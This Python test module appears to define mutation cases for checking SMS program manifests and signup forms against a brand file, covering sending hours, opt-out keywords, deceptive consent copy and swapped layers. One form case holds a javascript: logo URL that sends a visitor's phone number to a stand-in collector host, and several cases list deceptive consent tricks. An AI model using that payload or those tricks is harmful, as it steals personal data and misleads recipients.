"""Assets whose manifest differs from the brand file: what a program believes of itself, its hours and its words."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.infra.policy.attacks.assembly.archives import (
    changed_manifest,
    file_of,
    layer_with,
    members,
    packed,
    republish,
)
from tests.infra.policy.attacks.attack import Kind, Place, Promise
from tests.infra.policy.attacks.judging.workspace import NotApplicableError, Workspace

if TYPE_CHECKING:
    from random import Random

    from tests.infra.policy.attacks.judging.workspace import Json

KIND = Kind("a manifest that differs from the brand file", Place.ASSET)
P = Promise


def _template(**more: object) -> Json:
    return {"name": "more", "text": "", "topic": "", "parameters": [], "immediate": False, "resend": False, **more}


def _topics(manifest: Json, **more: object) -> None:
    for topic in manifest["topics"]:
        topic.update(more)


def _open(manifest: Json) -> None:
    for day in manifest["sending"]["week"]:
        manifest["sending"]["week"][day] = {"opens": 0, "closes": 1440}


def _sunday(manifest: Json) -> None:
    manifest["sending"]["week"]["sunday"] = {"opens": 480, "closes": 1260}


def _add_template(manifest: Json, **more: object) -> None:
    manifest["templates"].append(_template(topic=manifest["topics"][0]["name"], **more))


for _name, _kind, _promise, _harm, _edit in (
    ("open all night", None, P.CONSENT, "Texts go out at night.", _open),
    ("open on Sundays", "promotional", P.CONSENT, "Marketing goes out when the brand file says closed.", _sunday),
    ("opens at seven", None, P.CONSENT, "Texts go out before eight.", lambda m: m["sending"]["week"]["weekdays"].update(
        opens=420)),
    ("closes at half past nine", None, P.CONSENT, "Texts go out after nine.", lambda m: m["sending"]["week"][
        "weekdays"].update(closes=1290)),
    ("no days at all", None, P.DATA, "The gate never finds an open hour.", lambda m: m["sending"].update(
        week=dict.fromkeys(m["sending"]["week"]))),
    ("thirty-one texts a day", None, P.CONSENT, "People get more than they agreed to.", lambda m: _topics(
        m, frequency={"count": 31, "period": "day"})),
    ("a topic without a frequency", "promotional", P.CONSENT, "People get more than they agreed to.", lambda m: _topics(
        m, frequency={"count": None, "period": "varies"})),
    ("a topic that opts out as its keyword", None, P.CONSENT, "STOP joins a list.", lambda m: _topics(m,
        keyword="STOP")),
    ("YES as a topic's keyword", None, P.CONSENT, "A YES joins another list.", lambda m: _topics(m, keyword="YES")),
    ("a topic of nobody", None, P.CONSENT, "A list that no advertisement mentioned takes subscribers.", lambda m: m[
        "topics"].append({**m["topics"][0], "name": "partners", "keyword": "WIN", "title": "partner offers"})),
    ("no topics", None, P.DATA, "Every request is dropped.", lambda m: m["topics"].clear()),
    ("STOP is no word of the service", None, P.CONSENT, "The handler treats STOP as any word.", lambda m: m[
        "service_keywords"].remove("STOP")),
    ("no words of the service", None, P.CONSENT, "The handler answers what the service answers too.", lambda m: m[
        "service_keywords"].clear()),
    ("the other way of opt-outs", None, P.CONSENT, "Service and handler both wait for the other to answer STOP.",
        lambda m:
        m.update(opt_out_mode={"managed": "self_managed", "self_managed": "managed"}[m["opt_out_mode"]])),
    ("another legal entity", "promotional", P.CONSENT, "STOPs are announced to nobody.", lambda m: m.update(
        legal_entity="Example Holding LLC")),
    ("another brand", None, P.APART, "One program writes records and metrics of another.", lambda m: m.update(
        brand=f"{m['brand']}-2")),
    ("another message type", None, P.APART, "A program takes itself for the other kind.", lambda m: m.update(
        message_type={"promotional": "transactional", "transactional": "promotional"}[m["message_type"]])),
    ("another environment", None, P.ALARM, "Metrics are counted where no alarm looks.", lambda m: m.update(
        environment="prod2")),
    ("all countries", None, P.CONSENT, "Texts go to countries whose law nobody looked at.",
        lambda m: m["sending"].update(
        countries=["US", "CA", "GB", "FR", "DE"])),
    ("a request lives for a year", None, P.CONSENT, "A coupon of last summer is sent.", lambda m: m["sending"].update(
        lifetime_hours=8760)),
    ("the same text again at once", None, P.CONSENT, "A person gets the same text many times.",
        lambda m: m["sending"].update(
        same_content_hours=0)),
    ("never pauses", "promotional", P.ALARM, "A program that half of its people leave goes on.", lambda m: m["sending"][
        "pause"].update(opt_out_share=1.0, block_share=1.0)),
    ("pauses after a million", "promotional", P.ALARM, "Too few texts to ever judge.", lambda m: m["sending"][
        "pause"].update(least=10_000_000)),
    ("ten parts a text", None, P.DATA, "A text costs ten.", lambda m: m["sending"].update(most_parts=10)),
    ("a hundred thousand parts a second", None, P.DATA, "The service refuses texts and the gate gives up.", lambda m: m[
        "sending"].update(parts_per_second=100_000)),
    ("a YES counts for a year", None, P.CONSENT, "A YES of today confirms a question of last year.", lambda m: m.update(
        pending_hours=8760)),
    ("nobody ever tires", "promotional", P.CONSENT, "People who never answer get everything.", lambda m: m.update(
        engagement={"less_engaged_hours": 10**6, "unengaged_hours": 10**6, "grace_hours": 1, "digest_hours": 1})),
    ("one shard of the audience", "promotional", P.DATA, "Subscribers in the other shards are never found.", lambda m:
        m.update(audience_shards=1)),
    ("STOP lures back", None, P.CONSENT, "The last text is an advert.", lambda m: m["copy"].update(
        stop="Sorry to see you go! Reply JOIN for 20% off.")),
    ("HELP hides the way out", None, P.CONSENT, "HELP does not say STOP.", lambda m: m["copy"].update(
        help="Write to help@example.com")),
    ("no notice", None, P.CONSENT, "Texts never say how to stop.", lambda m: m["copy"].update(notice="")),
    ("silence is consent", None, P.CONSENT, "The question asks for a NO.", lambda m: m["copy"].update(
        confirmation_requests="You are subscribed to {topics}. Reply NO if you do not agree.")),
    ("the reminder sells", "promotional", P.CONSENT, "A reminder is an advert on top of the cap.", lambda m: [
        topic["copy"].update(reminder="Half price on everything today!") for topic in m["topics"]]),
    ("leaving is not leaving", None, P.CONSENT, "Who left is told that texts go on.", lambda m: [
        topic["copy"].update(left="You will get our best deals only.") for topic in m["topics"]]),
    ("an advert among templates", "transactional", P.CONSENT, "Marketing goes to people who only bought.", lambda m:
        _add_template(m, text="Half price on all shoes today only!")),
    ("a template that is a parameter", "transactional", P.CONSENT, "A request writes what it likes.", lambda m:
        _add_template(m, text="{body}", parameters=[{"name": "body", "longest": 160}])),
    ("a template that waits for nobody", "transactional", P.CONSENT, "Shipping notes go out at night.", lambda m: [
        one.update(immediate=True) for one in m["templates"]]),
    ("parameters of any length", "transactional", P.CONSENT, "An advert fits into an order's number.", lambda m: [
        parameter.update(longest=160) for one in m["templates"] for parameter in one["parameters"]]),
    ("every text is sent again in doubt", "transactional", P.CONSENT, "People get texts twice.", lambda m: [
        one.update(resend=True) for one in m["templates"]]),
):  # fmt: skip
    KIND.add(f"manifest: {_name}", _promise, _harm, changed_manifest(_edit, kind=_kind))

for _name, _promise, _harm, _edit in (
    ("no verifier", P.CONSENT, "The form takes any post.", lambda f: f.update(verifier="")),
    ("a verifier's test key", P.CONSENT, "The test key of Turnstile passes everybody.", lambda f: f.update(
        verifier="turnstile", site_key="1x00000000000000000000AA")),
    ("foreign sites may post", P.CONSENT, "Other sites post the form.", lambda f: f.update(
        origins=["https://win.example.net"])),
    ("a tenth of the frequency", P.CONSENT, "The form tells of fewer texts than come.", lambda f: [
        topic.update(count=1, period="year") for topic in f["topics"]]),
    ("terms of somebody", P.CONSENT, "People agree to other terms.", lambda f: f.update(
        terms_url="https://terms.example.net/", privacy_url="https://terms.example.net/")),
    ("another short code", P.APART, "The form tells people to text another brand's code.", lambda f: f.update(
        short_code="55599")),
    ("a script as a logo", P.NUMBERS, "The page runs a script of another host.", lambda f: f["look"].update(
        logo="javascript:fetch('https://collector.example.net/?'+document.forms[0].phone.value)")),
    ("text that nobody can read", P.CONSENT, "What people agree to is white on white.", lambda f: f["look"].update(
        text="#ffffff", background="#ffffff")),
):  # fmt: skip
    KIND.add(f"form: {_name}", _promise, _harm, changed_manifest(_edit, file="form.json"))


@KIND.workspace("the manifests of two programs are swapped", P.APART, "Each program acts as the other.")
def _(workspace: Workspace, rng: Random) -> None:
    programs = workspace.programs
    if len(programs) < 2:
        raise NotApplicableError("there is one program only")
    one, other = rng.sample(programs, 2)
    mine, theirs = (layer_with(workspace, p, "program_manifest/program.json") for p in (one, other))
    files = members(file_of(workspace, other.stack, str(theirs["S3Key"])))
    own = members(file_of(workspace, one.stack, str(mine["S3Key"])))
    republish(workspace, one, mine, packed({**files, "python/program_manifest/README": b"1"}))
    republish(workspace, other, theirs, packed({**own, "python/program_manifest/README": b"2"}))


@KIND.workspace("a second manifest in the layer", P.CONSENT, "A manifest under site-packages comes first.")
def _(workspace: Workspace, rng: Random) -> None:
    program = workspace.any_program(rng)
    content = layer_with(workspace, program, "program_manifest/program.json")
    files = members(file_of(workspace, program.stack, str(content["S3Key"])))
    for name in list(files):
        text = files[name].replace(b'"opens":540', b'"opens":0').replace(b'"opens":480', b'"opens":0')
        files[name.replace("python/", "python/lib/python3.14/site-packages/", 1)] = text
    republish(workspace, program, content, packed(files))


ATTACKS = KIND.attacks
